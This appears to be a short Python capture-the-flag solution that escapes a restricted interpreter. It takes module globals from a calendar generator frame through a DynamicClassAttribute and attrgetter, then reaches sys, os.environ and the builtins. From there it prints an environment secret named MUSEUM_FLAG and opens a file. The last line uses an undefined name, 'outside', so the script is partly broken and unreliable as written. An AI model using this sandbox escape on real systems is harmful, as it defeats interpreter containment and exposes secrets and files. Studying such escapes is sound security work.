# A generator of the library, asked by the library: no frame of ours is needed, and none of the
# names that are hidden is asked for by this program.
import calendar
from operator import attrgetter
from types import DynamicClassAttribute


class Look:
    # Calling this makes a generator object, with a frame, before any of it has run. The function
    # was written in calendar, so the frame's globals are calendar's.
    days = calendar.Calendar().iterweekdays()

    # A property written in Python, which calls its function when somebody asks for it. The
    # function is written in C, so the frame that asks for gi_frame is the library's.
    names = DynamicClassAttribute(attrgetter("days.gi_frame.f_globals"))


names = Look().names
print(names["sys"].modules["os"].environ["MUSEUM_FLAG"])
print(names["__builtins__"]["open"](outside["file"]).read())
